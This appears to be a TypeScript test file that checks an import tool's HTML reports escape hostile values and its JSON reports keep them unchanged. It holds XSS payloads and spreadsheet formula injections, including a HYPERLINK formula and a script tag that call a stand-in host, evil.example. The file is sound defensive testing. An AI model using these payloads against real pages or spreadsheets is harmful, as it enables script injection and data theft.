/**
 * Hostile values in reports: inert text in the HTML (escaped, no markup of
 * their own), byte-for-byte unchanged in the JSON.
 */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import type { Problem } from '../../shared/core/problems.js';
import { importabilityProblems, planImport } from '../../shared/entra/import-rules.js';
import { readAssignments } from '../../shared/formats/assignments.js';
import { readSeedFile } from '../../shared/formats/read-seed-file.js';
import { renderReportHtml, renderReportJson, type RunReport } from '../../shared/pipeline/report.js';
import { CORPUS_DIR } from '../fixtures/corpus/generate.js';

/** The clock reading given to the readers. */
const READ_AT = new Date('2026-06-01T00:00:00Z');

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '`${alert(1)}`',
  '</td></tr></table><iframe src=javascript:alert(1)>',
  '&lt;script&gt; already escaped',
  '<!-- comment --><![CDATA[x]]>',
  '\u202eevil\u200b',
];

/** The escaping the HTML must show, written out by hand (not with the code under test). */
function escapedByHand(value: string): string {
  return value
    .replace(/&/g, '&amp;')
    .replace(/</g, '&lt;')
    .replace(/>/g, '&gt;')
    .replace(/"/g, '&quot;')
    .replace(/'/g, '&#39;')
    .replace(/`/g, '&#96;');
}

function hostileReport(): RunReport {
  const problems: Problem[] = HOSTILE.map((v, i) => ({
    code: 'ENTRA_FORMULA_CELL',
    severity: 'error',
    message: `Value ${v}`,
    line: i + 2,
    serial: v,
  }));
  return {
    kind: 'seed-file',
    subject: `seeds/${HOSTILE[0]}.csv`,
    batch: HOSTILE[2],
    startedAt: HOSTILE[3]!,
    finishedAt: '2026-01-01T00:00:00.000Z',
    outcome: 'completed-with-problems',
    summary: HOSTILE.join(' | '),
    counts: Object.fromEntries(HOSTILE.map((v, i) => [v, i])),
    details: { ...Object.fromEntries(HOSTILE.map((v, i) => [`detail ${i}`, v])), nothing: null, flag: true },
    items: HOSTILE.map((v) => ({ serial: v, result: v, upn: v, file: v })),
    problems,
  };
}

const TEMPLATE_TAGS = new Set(['html', 'head', 'meta', 'title', 'style', 'body', 'h1', 'h2', 'p', 'strong', 'table', 'tr', 'th', 'td']);

/** Asserts the HTML holds only the template's own markup: every hostile character arrived as an entity. */
function assertInert(html: string): void {
  assert.doesNotMatch(html, /<script/i);
  assert.doesNotMatch(html, /<(img|iframe|svg|a|object|embed|link|base|form)\b/i);
  const tags = [...html.matchAll(/<\/?([a-zA-Z][\w-]*)/g)].map((m) => m[1]!.toLowerCase());
  assert.deepEqual([...new Set(tags.filter((t) => !TEMPLATE_TAGS.has(t)))], []);
  const text = html
    .replace(/^<!doctype html>/i, '')
    .replace(/<style>[^<]*<\/style>/, '')
    .replace(/<\/?[a-z][a-z0-9]*(?:\s+[a-z-]+="[^"]*")*\s*>/g, '');
  assert.doesNotMatch(text, /[<>"'`]/, 'a raw markup character is left in the text');
  assert.match(html, /<meta http-equiv="Content-Security-Policy" content="default-src 'none'/);
}

void describe('reports with hostile values', () => {
  void it('render every hostile value escaped in the HTML, and only the template as markup', () => {
    const report = hostileReport();
    const html = renderReportHtml(report);
    assertInert(html);
    for (const v of HOSTILE) assert.ok(html.includes(escapedByHand(v)), `missing escaped form of ${JSON.stringify(v)}`);
    // Formula prefixes stay visible as text: the report shows what the file said.
    assert.ok(html.includes('<td>=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;Click&quot;)</td>'));
    assert.ok(html.includes(`<title>seed-file report: seeds/${escapedByHand(HOSTILE[0]!)}.csv</title>`));
    assert.ok(html.includes('&amp;lt;script&amp;gt; already escaped'), 'entities in values are escaped again, not decoded');
  });

  void it('keep every value unchanged in the JSON', () => {
    const report = hostileReport();
    const json = renderReportJson(report);
    assert.deepEqual(JSON.parse(json), report);
    const parsed = JSON.parse(json) as RunReport;
    assert.deepEqual(
      parsed.items.map((i) => i.serial),
      HOSTILE,
    );
    assert.equal(parsed.problems[4]!.serial, '=HYPERLINK("http://evil.example/?x="&A1,"Click")');
    assert.equal(parsed.details?.['detail 9'], '`${alert(1)}`');
  });

  void it('stay inert with the problems the readers write about hostile corpus files', () => {
    const seedName = 'seeds/formula-every-prefix.csv';
    const seed = readSeedFile(readFileSync(join(CORPUS_DIR, seedName)), { now: READ_AT, fileName: seedName });
    const inspect = seed.tokens.flatMap((t) => importabilityProblems({ ...t, secretBytes: t.secret.length }, 'warning', t.line));
    const listName = 'assignments/malformed-upns.csv';
    const { rows } = readAssignments(readFileSync(join(CORPUS_DIR, listName)), listName);
    const plan = planImport(
      seed.tokens.map((t) => ({ ...t, secretBytes: t.secret.length })),
      rows,
    );
    const problems = [...inspect, ...plan.problems];
    // An invalid UPN is described, not quoted (the cell could be anything); the report's items still show it, escaped.
    assert.ok(problems.some((p) => p.code === 'ASSIGNMENT_UPN_INVALID' && p.line === 9 && /holds a space or one of/.test(p.message)));
    assert.ok(!problems.some((p) => p.message.includes('<script>')), 'the invalid UPN with <script> is not quoted in a message');
    assert.ok(problems.some((p) => p.code === 'ENTRA_FORMULA_CELL'));
    const report: RunReport = {
      kind: 'build',
      subject: listName,
      startedAt: '2026-01-01T00:00:00.000Z',
      finishedAt: '2026-01-01T00:00:01.000Z',
      outcome: 'rejected',
      summary: 'hostile',
      counts: { rows: rows.length },
      items: rows.map((r) => ({ serial: r.serial, result: 'refused', upn: r.upn })),
      problems,
    };
    const html = renderReportHtml(report);
    assertInert(html);
    assert.ok(html.includes(escapedByHand('"<script>alert(1)</script>"@contoso.com')));
    assert.deepEqual(JSON.parse(renderReportJson(report)), report);
    assert.ok((JSON.parse(renderReportJson(report)) as RunReport).items.some((i) => i.upn === '"<script>alert(1)</script>"@contoso.com'));
  });
});
